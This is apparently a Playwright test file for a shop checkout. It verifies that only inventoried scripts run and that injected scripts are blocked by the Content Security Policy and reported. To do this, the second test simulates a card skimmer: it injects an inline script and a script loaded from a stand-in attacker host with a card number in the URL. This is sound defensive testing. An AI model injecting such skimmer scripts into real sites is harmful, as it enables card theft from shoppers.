import { checkoutScripts, watchScripts } from '../../fixtures/checkout-scripts.ts';
import { enterCheckout, goToPayment } from '../../fixtures/payment-journey.ts';
import { expect, test } from '../../fixtures/shop-test.ts';

test('from the checkout to the payment the scripts of the inventory run, and no other', async ({ page, shop }) => {
  const scripts = watchScripts(page, shop.origin('dk'));
  await goToPayment(page, shop);
  expect(await scripts.names()).toEqual(Object.keys(checkoutScripts).sort());
});

test(
  'a script that somebody adds to the checkout does not run, and is reported',
  { tag: '@every-check' },
  async ({ page, shop, watch }) => {
    watch.allowed.push(/Content Security Policy/, /evil\.example/);
    await enterCheckout(page, shop);
    const reports: string[] = [];
    page.on('request', (request) => {
      if (!request.url().endsWith('/api/log-error')) return;
      const { type, message } = request.postDataJSON() as Record<string, string>;
      reports.push(`${type}: ${message}`);
    });
    await page.evaluate(() => {
      const add = (fill: (script: HTMLScriptElement) => void): void => {
        const script = document.createElement('script');
        fill(script);
        document.body.append(script);
      };
      add((script) => {
        script.textContent = 'window.skimmed = true';
      });
      add((script) => {
        script.src = 'https://evil.example/skimmer.js?card=4111';
      });
    });
    await expect
      .poll(() => [...reports].sort())
      .toEqual([
        'SecurityPolicyViolation: script-src-elem https://evil.example/skimmer.js?card=[redacted]',
        'SecurityPolicyViolation: script-src-elem inline',
      ]);
    expect(await page.evaluate(() => 'skimmed' in window)).toBe(false);
  },
);
